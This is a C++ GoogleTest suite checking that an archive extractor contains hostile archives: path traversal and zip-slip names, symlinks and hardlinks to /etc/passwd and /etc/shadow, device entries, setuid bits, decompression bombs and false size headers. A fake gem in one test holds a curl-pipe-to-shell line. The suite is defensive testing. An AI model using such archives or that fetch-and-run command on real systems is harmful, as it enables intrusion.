// The extractor under hostile archives: upstream's eight tests (upstream-today.md §4), and
// the attacks the agent adds. Every test ends by asserting nothing was written outside the
// work dir and no special file was created anywhere.
#include "agent/extract.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <zlib.h>

#include "../helpers/zlib_stream.h"

#include "archive_builder.h"
#include "scratch.h"

namespace batlehub::agent {
namespace {

using namespace batlehub::testing;
using wire::ExtractPolicy;
using wire::FailureKind;

std::span<const unsigned char> bytes(const std::string& s) {
  return {reinterpret_cast<const unsigned char*>(s.data()), s.size()};
}

class Extract : public ::testing::Test {
 protected:
  void TearDown() override {
    auto s = scratch_.strays();
    EXPECT_TRUE(s.empty()) << ::testing::PrintToString(s);
  }

  Expected<wire::ExtractReport, ExtractError> run(const std::string& archive, ExtractPolicy policy = {},
                                                  std::vector<std::string> dest = {"pkg"}, bool strip = false,
                                                  std::vector<std::string> descend = {}) {
    if (!work_) work_.emplace(*WorkDir::open(scratch_.work().string()));
    ExtractTarget t{&*work_, std::move(dest), strip, std::move(descend)};
    return extract_memory(bytes(archive), t, policy);
  }

  fs::path out(const std::string& rel) const { return scratch_.work() / "pkg" / rel; }

  Scratch scratch_;
  std::optional<WorkDir> work_;
};

// --- upstream's eight ------------------------------------------------------------------

TEST_F(Extract, formats_are_sniffed_from_bytes_not_names) {
  EXPECT_EQ(sniff(bytes(make_tgz({file("a", "x")}))), ArchiveFormat::kTarGz);
  EXPECT_EQ(sniff(bytes(make_zip({file("a", "x")}))), ArchiveFormat::kZip);
  EXPECT_EQ(sniff(bytes(make_tar({file("a", "x")}))), ArchiveFormat::kTar);
  EXPECT_EQ(sniff(bytes(make_archive(Kind::kTarXz, {file("a", "x")}))), ArchiveFormat::kTarXz);
  EXPECT_EQ(sniff(bytes(make_archive(Kind::kTarBz2, {file("a", "x")}))), ArchiveFormat::kTarBz2);
  EXPECT_EQ(sniff(bytes(std::string("hello"))), std::nullopt);
  EXPECT_EQ(sniff(bytes(std::string("BZh0"))), std::nullopt);
  auto r = run("hello, I am a .tgz by name only");
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kUnrecognised);
}

// Legacy sdists: PyPI still serves .tar.bz2 and .tar.xz ones, and the malware corpus holds an
// xz tar named .tar.gz. Each extracts under the same budget as a gzip tar.
TEST_F(Extract, xz_and_bzip2_tars_extract_and_their_bombs_are_refused) {
  for (Kind k : {Kind::kTarXz, Kind::kTarBz2}) {
    Scratch s;
    WorkDir w = *WorkDir::open(s.work().string());
    ExtractTarget t{&w, {"pkg"}, false};
    auto r = extract_memory(bytes(make_archive(k, {file("x-1.0/PKG-INFO", "Name: x\n"), file("x-1.0/setup.py", "")})), t, {});
    ASSERT_TRUE(r) << r.error().message;
    EXPECT_EQ(r->files, 2u);
    EXPECT_TRUE(fs::exists(s.work() / "pkg/x-1.0/PKG-INFO"));

    Scratch s2;
    WorkDir w2 = *WorkDir::open(s2.work().string());
    ExtractTarget t2{&w2, {"pkg"}, false};
    ExtractPolicy tight;
    tight.max_extracted_bytes = 1 << 20;
    auto bomb = extract_memory(bytes(make_archive(k, {file("big", std::string(8 << 20, '\0'))})), t2, tight);
    ASSERT_FALSE(bomb);
    EXPECT_NE(bomb.error().kind, FailureKind::kUnrecognised) << bomb.error().message;
  }
}

TEST_F(Extract, a_tarball_extracts_with_exec_bits_dropped) {
  auto r = run(make_tgz({file("package/bin/run", "#!/bin/sh\n", 0755), file("package/index.js", "x", 0755)}));
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->files, 2u);
  struct stat st{};
  ASSERT_EQ(::stat(out("package/bin/run").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0644u);
}

TEST_F(Extract, traversal_and_absolute_paths_are_refused_not_relocated) {
  for (const char* name : {"../escape", "package/../../escape", "/etc/passwd", "../../../../escape"}) {
    std::string tar = make_tar({file(name, "pwned")});
    EXPECT_EQ(sniff(bytes(tar)), ArchiveFormat::kTar);
    Scratch s;
    WorkDir w = *WorkDir::open(s.work().string());
    ExtractTarget t{&w, {"pkg"}, false};
    auto r = extract_memory(bytes(tar), t, {});
    ASSERT_FALSE(r) << name;
    EXPECT_EQ(r.error().kind, FailureKind::kTraversal) << name;
    EXPECT_NE(r.error().message.find("escapes the extraction root"), std::string::npos);
    EXPECT_TRUE(s.strays().empty()) << name;
  }
  auto r = run(make_zip({file("../zipslip", "pwned")}));
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kTraversal);
}

TEST_F(Extract, symlinks_and_hardlinks_are_refused_by_type) {
  auto r = run(make_tar({symlink("link", "/etc/passwd"), hardlink("hard", "/etc/shadow"), file("one", "1")}));
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->refused_by_type, 2u);
  EXPECT_EQ(r->files, 1u);
  EXPECT_FALSE(fs::exists(fs::symlink_status(out("link"))));
  EXPECT_FALSE(fs::exists(fs::symlink_status(out("hard"))));
}

TEST_F(Extract, the_entry_count_and_the_size_ceiling_reject_rather_than_truncate) {
  std::vector<TestEntry> many;
  for (int i = 0; i < 12; ++i) many.push_back(file("f" + std::to_string(i), "x"));
  ExtractPolicy p;
  p.max_entries = 10;
  auto r = run(make_tar(many), p);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kTooManyEntries);
  EXPECT_EQ(r.error().message, "archive has more than 10 entries");

  Scratch s;
  WorkDir w = *WorkDir::open(s.work().string());
  ExtractTarget t{&w, {"pkg"}, false};
  ExtractPolicy q;
  q.max_extracted_bytes = 1024;
  q.max_ratio = 1'000'000;
  std::string tar = make_tar({file("big", std::string(4096, 'a'))});
  auto r2 = extract_memory(bytes(tar), t, q);
  ASSERT_FALSE(r2);
  EXPECT_EQ(r2.error().kind, FailureKind::kTooLarge);
  EXPECT_EQ(r2.error().message, "archive extracts to more than 1024 bytes");
}

TEST_F(Extract, a_decompression_bomb_is_refused_by_ratio) {
  std::string tgz = make_tgz({file("zeros", std::string(4 * 1024 * 1024, '\0'))});
  ASSERT_LT(tgz.size(), 64u * 1024);
  auto r = run(tgz);
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kBomb);
  EXPECT_EQ(r.error().message, "archive decompression ratio exceeds 100:1");
}

TEST_F(Extract, a_nested_archive_is_written_and_not_descended) {
  std::string inner = make_tar({file("../escape-from-inside", "pwned")});
  auto r = run(make_tgz({file("p/vendored.tgz", inner)}));
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->nested_archives, 1u);
  EXPECT_EQ(Scratch::read(out("p/vendored.tgz")), inner);
}

TEST_F(Extract, a_zip_extracts_too) {
  auto r = run(make_zip({file("lib/a.py", "a"), file("lib/sub/b.py", "b")}));
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->files, 2u);
  EXPECT_EQ(Scratch::read(out("lib/sub/b.py")), "b");
}

// --- what the agent adds ---------------------------------------------------------------

TEST_F(Extract, a_zip_entry_escaping_through_backslashes_is_refused) {
  auto r = run(make_zip({file("..\\..\\..\\evil", "pwned")}));
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kTraversal);
  auto r2 = run(make_zip({file("C:\\..\\evil", "pwned")}), {}, {"pkg2"});
  ASSERT_FALSE(r2);
  EXPECT_EQ(r2.error().kind, FailureKind::kTraversal);
}

TEST_F(Extract, backslashes_that_stay_inside_become_directories) {
  auto r = run(make_zip({file("lib\\win\\a.py", "a")}));
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(Scratch::read(out("lib/win/a.py")), "a");
}

TEST_F(Extract, a_symlink_followed_by_a_file_written_through_it_stays_inside) {
  // The classic: "dir -> /etc", then "dir/passwd". The link is never made, so the file
  // lands in a real directory named "dir" inside the work dir.
  fs::path victim = scratch_.root() / "victim";
  auto r = run(make_tar({symlink("dir", victim.string()), file("dir/passwd", "pwned"),
                         symlink("up", "../../.."), file("up/escape", "pwned")}));
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->refused_by_type, 2u);
  EXPECT_TRUE(fs::is_directory(fs::symlink_status(out("dir"))));
  EXPECT_EQ(Scratch::read(out("dir/passwd")), "pwned");
  EXPECT_FALSE(fs::exists(victim));
  EXPECT_TRUE(fs::is_directory(fs::symlink_status(out("up"))));
}

TEST_F(Extract, a_symlink_planted_in_the_work_dir_is_not_followed) {
  // Something already in the work dir (a previous entry's dir swapped for a link) must not
  // lead the extractor out: the walk refuses to enter a symlink.
  fs::create_directories(scratch_.work() / "pkg2");
  fs::create_directory_symlink(scratch_.root(), scratch_.work() / "pkg2" / "lnk");
  auto r = run(make_tar({file("lnk/escape", "pwned")}), {}, {"pkg3"});
  ASSERT_TRUE(r);  // pkg3 is fresh: the link is in pkg2 and irrelevant
  WorkDir w = *WorkDir::open(scratch_.work().string());
  auto f = w.create_file({"pkg2", "lnk", "escape"}, false);
  ASSERT_FALSE(f);
  EXPECT_FALSE(fs::exists(scratch_.root() / "escape"));
  fs::remove(scratch_.work() / "pkg2" / "lnk");
}

TEST_F(Extract, a_hardlink_to_a_host_file_is_not_created) {
  fs::path host = scratch_.root() / "host-secret";
  Scratch::write(host, "secret");
  auto r = run(make_tar({hardlink("stolen", host.string()), hardlink("stolen2", "../../../host-secret")}));
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->refused_by_type, 2u);
  EXPECT_FALSE(fs::exists(out("stolen")));
  struct stat st{};
  ASSERT_EQ(::stat(host.c_str(), &st), 0);
  EXPECT_EQ(st.st_nlink, 1u);
  fs::remove(host);
}

TEST_F(Extract, device_and_fifo_entries_are_skipped_and_counted) {
  TestEntry chr{"dev/mem", "", 0020000, 0666, "", false, std::nullopt};
  TestEntry blk{"dev/sda", "", 0060000, 0666, "", false, std::nullopt};
  TestEntry fifo{"pipe", "", 0010000, 0666, "", false, std::nullopt};
  auto r = run(make_tar({chr, blk, fifo, file("ok", "1")}));
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(r->refused_by_type, 3u);
  EXPECT_EQ(r->files, 1u);
  EXPECT_FALSE(fs::exists(fs::symlink_status(out("dev/mem"))));
  EXPECT_FALSE(fs::exists(fs::symlink_status(out("pipe"))));
}

TEST_F(Extract, a_setuid_file_loses_its_set_id_and_exec_bits) {
  auto r = run(make_tar({file("suid", "x", 04755), file("sgid", "x", 02755), file("sticky", "x", 01777)}));
  ASSERT_TRUE(r) << r.error().message;
  for (const char* n : {"suid", "sgid", "sticky"}) {
    struct stat st{};
    ASSERT_EQ(::stat(out(n).c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 07777, 0644u) << n;
  }
}

TEST_F(Extract, a_size_header_that_claims_too_much_is_refused_before_writing) {
  // A header declaring 1 GiB for a tiny body: charged first, refused at once.
  ExtractPolicy p;
  p.max_extracted_bytes = 1024 * 1024;
  TestEntry liar = file("liar", std::string(16, 'a'));
  liar.declared_size = 1LL << 30;
  std::string tar = make_tar({liar});
  auto r = run(tar, p);
  ASSERT_FALSE(r);
  EXPECT_TRUE(r.error().kind == FailureKind::kTooLarge || r.error().kind == FailureKind::kMalformed)
      << r.error().message;
  EXPECT_FALSE(fs::exists(out("liar")) && fs::file_size(out("liar")) > p.max_extracted_bytes);
}

// Rewrites a zip's recorded uncompressed sizes (local header and central directory).
std::string zip_with_declared_size(std::string zip, std::uint32_t declared) {
  auto put32 = [&](std::size_t at, std::uint32_t v) {
    for (int i = 0; i < 4; ++i) zip[at + i] = static_cast<char>((v >> (8 * i)) & 0xff);
  };
  for (std::size_t i = 0; i + 4 <= zip.size(); ++i) {
    if (zip.compare(i, 4, "PK\x03\x04") == 0) put32(i + 22, declared);
    if (zip.compare(i, 4, "PK\x01\x02") == 0) put32(i + 24, declared);
  }
  return zip;
}

TEST_F(Extract, a_size_header_that_claims_too_little_is_caught_by_counting) {
  // The zip says 10 bytes; its deflate stream holds 2 MiB. What is counted is what is
  // written, so the 64 KiB ceiling holds whatever the header said.
  ExtractPolicy p;
  p.max_extracted_bytes = 64 * 1024;
  p.max_ratio = 1'000'000;
  std::string zip = zip_with_declared_size(make_zip({file("liar", std::string(2 * 1024 * 1024, 'z'))}), 10);
  auto r = run(zip, p);
  ASSERT_FALSE(r) << "a lying header was believed";
  EXPECT_TRUE(r.error().kind == FailureKind::kTooLarge || r.error().kind == FailureKind::kMalformed)
      << r.error().message;
  std::error_code ec;
  auto size = fs::file_size(out("liar"), ec);
  if (!ec) {
    EXPECT_LE(size, p.max_extracted_bytes + 65536);
  }
}

TEST_F(Extract, an_entry_count_bomb_is_refused_at_the_default_policy) {
  std::vector<TestEntry> many;
  many.reserve(50'001);
  for (int i = 0; i < 50'001; ++i) many.push_back(dir("d" + std::to_string(i)));
  auto r = run(make_tgz(many));
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kTooManyEntries);
  EXPECT_EQ(r.error().message, "archive has more than 50000 entries");
}

TEST_F(Extract, a_zip_ratio_bomb_is_refused) {
  auto r = run(make_zip({file("a", std::string(8 * 1024 * 1024, 'a'))}));
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kBomb);
}

TEST_F(Extract, the_single_wrapper_directory_is_stripped_when_asked) {
  auto r = run(make_tgz({dir("package/"), file("package/index.js", "js"), file("package/lib/x.js", "x")}), {},
               {"node_modules", "left-pad"}, true);
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(Scratch::read(scratch_.work() / "node_modules/left-pad/index.js"), "js");
  EXPECT_EQ(Scratch::read(scratch_.work() / "node_modules/left-pad/lib/x.js"), "x");
}

TEST_F(Extract, two_top_level_entries_are_not_a_wrapper) {
  auto r = run(make_tgz({file("a/x", "1"), file("b/y", "2")}), {}, {"t"}, true);
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_TRUE(fs::exists(scratch_.work() / "t/a/x"));
  EXPECT_TRUE(fs::exists(scratch_.work() / "t/b/y"));
}

TEST_F(Extract, an_existing_destination_is_refused) {
  fs::create_directories(scratch_.work() / "pkg");
  auto r = run(make_tgz({file("a", "1")}));
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kWrite);
}

// One gzip member of `plain`, as zlib writes it.
std::string gzip_member(const std::string& plain) {
  return batlehub::testing::deflate_stream(plain, 6, 15 + 16);
}

TEST_F(Extract, a_gzip_that_is_not_a_tar_is_malformed) {
  auto r = run(gzip_member(std::string(1000, 'q')));
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kMalformed);
}

// The gzip layer is igzip's (agent/gunzip.h): a tar gzipped in two members, as `cat a.gz
// b.gz` or a parallel gzip writes it, extracts whole; a damaged trailer read before the
// tar's end is refused, naming the member.
TEST_F(Extract, a_tar_gzipped_in_two_members_extracts_whole_and_a_bad_trailer_is_refused) {
  std::string text;
  for (unsigned i = 0; text.size() < 100'000; ++i) text += std::to_string(i * 2654435761U) + (i % 7 ? " " : "\n");
  text.resize(100'000);  // compressible as text is, well under the ratio
  std::string tar = make_tar({file("pkg/a.txt", text), file("pkg/b.txt", "bee\n")});
  const std::size_t half = 50'000;
  std::string two = gzip_member(tar.substr(0, half)) + gzip_member(tar.substr(half));
  auto r = run(two);
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(fs::file_size(out("pkg/a.txt")), 100'000U);
  EXPECT_EQ(Scratch::read(out("pkg/b.txt")), "bee\n");

  std::string damaged = two;
  damaged[damaged.size() - 6] ^= 0x01;  // the second member's CRC-32
  fs::remove_all(scratch_.work() / "pkg");
  auto refused = run(damaged);
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().kind, FailureKind::kMalformed);
  // Here at open: the whole stream is inflated in the first block libarchive asks for.
  EXPECT_NE(refused.error().message.find("gzip member 2, at compressed byte"), std::string::npos)
      << refused.error().message;
  EXPECT_NE(refused.error().message.find("CRC-32 or length does not match"), std::string::npos)
      << refused.error().message;
}

// --- a member descended (wire 2's `descend`): a gem's data.tar.gz ----------------------

// A .gem as `gem build` writes it: a plain (ustar) tar of metadata.gz, data.tar.gz and
// checksums.yaml.gz, no wrapper directory; the package's files are in data.tar.gz.
std::string gem_with(const std::string& data_tar_gz) {
  return make_tar(
      {file("metadata.gz", make_tgz({file("metadata", "--- !ruby/object:Gem::Specification\nname: evil\n")})),
       file("data.tar.gz", data_tar_gz), file("checksums.yaml.gz", make_tgz({file("checksums.yaml", "---\n")}))});
}

TEST_F(Extract, a_gems_data_tar_gz_is_extracted_in_its_place_and_removed) {
  const std::string data = make_tgz({dir("lib/"), file("lib/evil.rb", "system('curl http://127.0.0.1/x | sh')\n"),
                                     file("lib/evil/version.rb", "VERSION = '0.1.0'\n"), file("evil.gemspec", "spec"),
                                     file("vendor/inner.tgz", make_tgz({file("x", "x")}))});
  const std::string gem = gem_with(data);
  ASSERT_EQ(sniff(bytes(gem)), ArchiveFormat::kTar) << "a gem is a plain tar";
  auto r = run(gem, {}, {"vendor", "bundle", "gems", "evil-0.1.0"}, /*strip=*/true, {"data.tar.gz"});
  ASSERT_TRUE(r) << r.error().message;
  const fs::path g = scratch_.work() / "vendor/bundle/gems/evil-0.1.0";
  EXPECT_EQ(Scratch::read(g / "lib/evil.rb"), "system('curl http://127.0.0.1/x | sh')\n");
  EXPECT_EQ(Scratch::read(g / "lib/evil/version.rb"), "VERSION = '0.1.0'\n");
  EXPECT_TRUE(fs::exists(g / "metadata.gz")) << "the gem's other members stay";
  EXPECT_TRUE(fs::exists(g / "checksums.yaml.gz"));
  EXPECT_FALSE(fs::exists(g / "data.tar.gz")) << "the descended member is removed";
  // 3 outer files + 4 inner; the inner directory; the archives left as files: the inner
  // tgz only (metadata.gz and checksums.yaml.gz are not archive names; data.tar.gz is gone).
  EXPECT_EQ(r->files, 7u);
  EXPECT_EQ(r->directories, 1u);
  EXPECT_EQ(r->nested_archives, 1u);
  EXPECT_TRUE(fs::exists(g / "vendor/inner.tgz")) << "one level only: an archive inside is written, not descended";
  EXPECT_FALSE(fs::exists(g / "vendor/x"));
}

TEST_F(Extract, a_bomb_inside_data_tar_gz_is_refused_as_a_bomb_against_the_gems_size) {
  // 4 MiB of zeros gzip to a few KiB: on its own the gem is a ~20 KiB tar, well within the
  // ratio; what data.tar.gz expands to is charged to the same budget.
  const std::string data = make_tgz({file("lib/zeros.rb", std::string(4 * 1024 * 1024, '\0'))});
  const std::string gem = gem_with(data);
  ASSERT_LT(gem.size(), 64u * 1024);
  auto plain = run(gem, {}, {"plain"});
  ASSERT_TRUE(plain) << "not descended, the gem itself is no bomb: " << plain.error().message;

  auto r = run(gem, {}, {"pkg"}, false, {"data.tar.gz"});
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().kind, FailureKind::kBomb);
  EXPECT_EQ(r.error().message, "in 'data.tar.gz': archive decompression ratio exceeds 100:1");
}

TEST_F(Extract, the_entry_count_and_the_byte_ceiling_are_one_budget_for_the_gem_and_its_data) {
  // The gem's 3 entries and its data's 6: 9, at max_entries = 9.
  std::vector<TestEntry> six;
  for (int i = 0; i < 6; ++i) six.push_back(file("lib/f" + std::to_string(i) + ".rb", "x"));
  ExtractPolicy p;
  p.max_entries = 9;
  auto fits = run(gem_with(make_tgz(six)), p, {"a"}, false, {"data.tar.gz"});
  ASSERT_TRUE(fits) << fits.error().message;
  six.push_back(file("lib/f6.rb", "x"));  // 3 + 7 = 10 > 9, though each half alone fits
  auto over = run(gem_with(make_tgz(six)), p, {"b"}, false, {"data.tar.gz"});
  ASSERT_FALSE(over);
  EXPECT_EQ(over.error().kind, FailureKind::kTooManyEntries);
  EXPECT_EQ(over.error().message, "in 'data.tar.gz': archive has more than 9 entries");

  // Bytes: the outer members (data.tar.gz's own bytes included) plus what it expands to.
  const std::string data = make_tgz({file("lib/big.rb", std::string(6000, 'r'))});
  const std::string gem = gem_with(data);
  std::uint64_t outer = 0;
  {
    Scratch s;
    WorkDir w = *WorkDir::open(s.work().string());
    ExtractTarget t{&w, {"pkg"}, false};
    auto alone = extract_memory(bytes(gem), t, {});
    ASSERT_TRUE(alone) << alone.error().message;
    outer = alone->bytes;
  }
  ExtractPolicy q;
  q.max_ratio = 1'000'000;
  q.max_extracted_bytes = outer + 6000;  // exactly enough for both
  auto exact = run(gem, q, {"c"}, false, {"data.tar.gz"});
  ASSERT_TRUE(exact) << exact.error().message;
  EXPECT_EQ(exact->bytes, outer + 6000);
  q.max_extracted_bytes = outer + 5999;
  auto short_by_one = run(gem, q, {"d"}, false, {"data.tar.gz"});
  ASSERT_FALSE(short_by_one);
  EXPECT_EQ(short_by_one.error().kind, FailureKind::kTooLarge);
}

TEST_F(Extract, a_path_escape_inside_data_tar_gz_is_refused_and_nothing_lands_outside) {
  for (const char* name : {"../escape", "../../../../escape", "/etc/evil", "lib/../../../escape"}) {
    Scratch s;
    WorkDir w = *WorkDir::open(s.work().string());
    ExtractTarget t{&w, {"vendor", "bundle", "gems", "evil-0.1.0"}, true, {"data.tar.gz"}};
    auto r = extract_memory(bytes(gem_with(make_tar({file("lib/ok.rb", "ok"), file(name, "pwned")}))), t, {});
    ASSERT_FALSE(r) << name;
    EXPECT_EQ(r.error().kind, FailureKind::kTraversal) << name;
    EXPECT_TRUE(r.error().message.starts_with("in 'data.tar.gz': archive entry '")) << r.error().message;
    EXPECT_TRUE(s.strays().empty()) << name << ::testing::PrintToString(s.strays());
  }
  // Links inside are refused by type, as in any archive.
  auto links = run(
      gem_with(make_tgz({symlink("lib/l", "/etc/passwd"), hardlink("lib/h", "/etc/shadow"), file("lib/ok.rb", "ok")})),
      {}, {"pkg"}, false, {"data.tar.gz"});
  ASSERT_TRUE(links) << links.error().message;
  EXPECT_EQ(links->refused_by_type, 2u);
  EXPECT_FALSE(fs::exists(fs::symlink_status(out("lib/l"))));
}

TEST_F(Extract, a_descend_member_that_is_missing_not_a_file_or_not_an_archive_is_refused) {
  auto missing = run(make_tar({file("metadata.gz", "m")}), {}, {"a"}, false, {"data.tar.gz"});
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().kind, FailureKind::kMalformed);
  EXPECT_EQ(missing.error().message, "the archive holds no 'data.tar.gz' to extract");

  auto deeper = run(make_tar({file("metadata.gz", "m")}), {}, {"a2"}, false, {"no", "such", "data.tar.gz"});
  ASSERT_FALSE(deeper);
  EXPECT_EQ(deeper.error().kind, FailureKind::kMalformed);
  EXPECT_FALSE(fs::exists(scratch_.work() / "a2/no")) << "looking for it creates nothing";

  auto a_dir = run(make_tar({dir("data.tar.gz/"), file("data.tar.gz/x", "x")}), {}, {"b"}, false, {"data.tar.gz"});
  ASSERT_FALSE(a_dir);
  EXPECT_EQ(a_dir.error().kind, FailureKind::kMalformed);
  EXPECT_EQ(a_dir.error().message, "'data.tar.gz' in the archive is not a regular file");

  auto a_link = run(make_tar({symlink("data.tar.gz", "/etc/passwd")}), {}, {"c"}, false, {"data.tar.gz"});
  ASSERT_FALSE(a_link);
  EXPECT_EQ(a_link.error().kind, FailureKind::kMalformed) << "the link was never created";

  auto text = run(gem_with("just text"), {}, {"d"}, false, {"data.tar.gz"});
  ASSERT_FALSE(text);
  EXPECT_EQ(text.error().kind, FailureKind::kUnrecognised);
  EXPECT_TRUE(text.error().message.starts_with("in 'data.tar.gz': archive format not recognised"))
      << text.error().message;
}

TEST_F(Extract, an_entry_inside_named_like_the_member_or_its_siblings_replaces_nothing_it_is_reading) {
  // data.tar.gz holding a "data.tar.gz" and a "metadata.gz" of its own: the member was taken
  // out of the tree before its entries were written, so they land as plain files.
  const std::string data =
      make_tgz({file("data.tar.gz", "not again"), file("metadata.gz", "inner"), file("lib/a.rb", "a")});
  auto r = run(gem_with(data), {}, {"pkg"}, false, {"data.tar.gz"});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(Scratch::read(out("data.tar.gz")), "not again");
  EXPECT_EQ(Scratch::read(out("metadata.gz")), "inner") << "in place, as upstream's in-place extraction";
  EXPECT_EQ(Scratch::read(out("lib/a.rb")), "a");
}

TEST_F(Extract, the_member_is_found_after_the_wrapper_is_stripped) {
  auto r = run(make_tgz({dir("w/"), file("w/inner.tgz", make_tgz({file("src/x.rb", "x")}))}), {}, {"s"}, true,
               {"inner.tgz"});
  ASSERT_TRUE(r) << r.error().message;
  EXPECT_EQ(Scratch::read(scratch_.work() / "s/src/x.rb"), "x");
  EXPECT_FALSE(fs::exists(scratch_.work() / "s/inner.tgz"));
  EXPECT_EQ(r->nested_archives, 0u);
}

}  // namespace
}  // namespace batlehub::agent
